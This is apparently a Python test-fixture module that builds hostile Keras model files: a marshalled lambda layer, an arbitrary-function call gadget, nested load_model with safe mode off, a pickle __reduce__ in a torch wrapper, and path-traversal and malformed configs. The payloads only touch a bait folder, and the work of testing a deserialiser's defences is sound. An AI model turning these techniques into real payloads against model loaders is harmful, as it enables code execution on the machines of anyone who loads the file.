"""Hostile configs: code for Keras' deserialiser, in an otherwise valid file.

Each function takes the bait folder and returns a file's bytes; see
`mechanisms.py`.
"""

import base64
import codecs
import io
import json
import marshal
import pickle
import zipfile
from pathlib import Path

import artifact_fixtures as fixtures
import h5py
from artifact_fixtures import (
    CONFIG,
    DENSE,
    FLATTEN,
    edit_json,
    edit_layer,
    edit_node,
    node,
)

WRITTEN, READ = "written", "secret.txt"


def marshalled(bait: Path) -> dict:
    """A function as Keras stores a lambda: marshalled bytecode."""
    code = (lambda x: (open("PATH", "w").close(), x)[1]).__code__
    path = str(bait / WRITTEN)
    constants = tuple(path if c == "PATH" else c for c in code.co_consts)
    code = code.replace(co_consts=constants)
    text = codecs.encode(marshal.dumps(code), "base64").decode()
    config = {"code": text, "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": config}


def lambda_layer(bait: Path) -> dict:
    """A Lambda layer that writes when it is called."""
    config = {"name": "evil", "function": marshalled(bait), "arguments": {}}
    return node("Lambda", config)


def insert(*nodes: dict, at: int = FLATTEN) -> bytes:
    """The valid file with more layers."""

    def change(config):
        config["config"]["layers"][at:at] = nodes

    return edit_json(CONFIG, change)


def call(module: str, name: str, *args, **kwargs) -> bytes:
    """A functional model with a layer that calls an arbitrary function."""

    def function(kind, key, **keys):
        return {"class_name": kind, "name": key, "inbound_nodes": [], **keys}

    def change(config):
        layers = config["config"]["layers"]
        first = {**layers[0], "name": "pixels", "inbound_nodes": []}
        evil = function(
            "function",
            "evil",
            module=module,
            config=name,
            registered_name=name,
        )
        evil["inbound_nodes"] = [{"args": list(args), "kwargs": kwargs}]
        config.update(class_name="Functional")
        config["config"] = {
            "name": "m",
            "trainable": True,
            "layers": [first, evil],
            "input_layers": [["pixels", 0, 0]],
            "output_layers": [["evil", 0, 0]],
        }

    return edit_json(CONFIG, change)


def get_file(bait: Path) -> bytes:
    """A call that copies a file."""
    origin = (bait / READ).as_uri()
    options = {"cache_dir": str(bait), "cache_subdir": "", "origin": origin}
    return call("keras.utils", "get_file", WRITTEN, **options)


def load_model_lambda(bait: Path) -> bytes:
    """A layer that opens a second file without safe mode."""
    path = bait / "inner.keras"
    path.write_bytes(insert(lambda_layer(bait)))
    function = node("function", "load_model", module="keras.models")
    arguments = {"safe_mode": False, "filepath": str(path)}
    config = {"name": "evil", "function": function, "arguments": arguments}
    return insert(node("Lambda", config))


def enable_unsafe(bait: Path) -> bytes:
    """A layer that switches safe mode off, then a lambda."""
    name = "enable_unsafe_deserialization"
    function = node("function", name, module="keras.config")
    wrapped = {"name": "first", "function": function, "arguments": {}}
    return insert(node("Lambda", wrapped), lambda_layer(bait))


def legacy_file(bait: Path) -> bytes:
    """An old HDF5 file with a lambda."""
    buffer = io.BytesIO()
    config = json.loads(members(insert(lambda_layer(bait)))[CONFIG])
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = []
    return buffer.getvalue()


def torch_module(bait: Path) -> bytes:
    """A pickle that writes, as torch.save would write it."""

    class Evil:
        def __reduce__(self):
            return open, (str(bait / WRITTEN), "w")

    buffer = io.BytesIO()
    # As torch.save writes it, without torch.
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Evil(), 2))
        archive.writestr("archive/version", "3\n")
    text = base64.b64encode(buffer.getvalue()).decode()
    return insert(node("TorchModuleWrapper", {"name": "e", "module": text}))


def saved_model(bait: Path) -> bytes:
    """A layer that loads a folder."""
    config = {"name": "e", "filepath": str(bait), "trainable": True}
    return insert(node("TFSMLayer", config))


def vocabulary(bait: Path) -> bytes:
    """A layer whose vocabulary is a file."""
    config = {"name": "words", "vocabulary": str(bait / READ)}
    return insert(node("StringLookup", config))


def nested_lambda(bait: Path) -> bytes:
    """A lambda in a layer that wraps another."""
    config = {"name": "times", "layer": lambda_layer(bait)}
    return insert(node("TimeDistributed", config))


def registered(bait: Path) -> bytes:
    """A layer that is registered under another name."""
    return edit_node(DENSE, registered_name="evil>Dense")


def up_name(bait: Path) -> bytes:
    """A layer whose name goes up two folders."""
    return edit_layer(DENSE, name="../../written")


def list_config(bait: Path) -> bytes:
    """A config that is not a JSON object."""
    return fixtures.with_member(CONFIG, json.dumps(["Sequential"]).encode())


def text_config(bait: Path) -> bytes:
    """A layer whose config is not a JSON object."""
    return edit_node(DENSE, config="units")


def members(data: bytes) -> dict[str, bytes]:
    """Unpacks an archive: names to bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            info.filename: archive.read(info) for info in archive.infolist()
        }
